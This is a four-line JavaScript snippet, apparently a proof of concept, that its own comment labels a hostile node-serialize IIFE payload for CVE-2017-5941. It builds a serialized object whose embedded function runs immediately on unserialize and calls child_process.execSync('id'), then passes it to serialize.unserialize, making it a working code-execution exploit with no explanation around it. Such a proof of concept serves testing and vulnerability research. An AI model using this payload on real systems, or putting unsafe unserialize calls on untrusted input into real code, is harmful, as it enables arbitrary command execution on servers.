// hostile: node-serialize IIFE payload (CVE-2017-5941)
const serialize = require('node-serialize');
const payload = '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').execSync(\'id\')}()"}';
serialize.unserialize(payload);
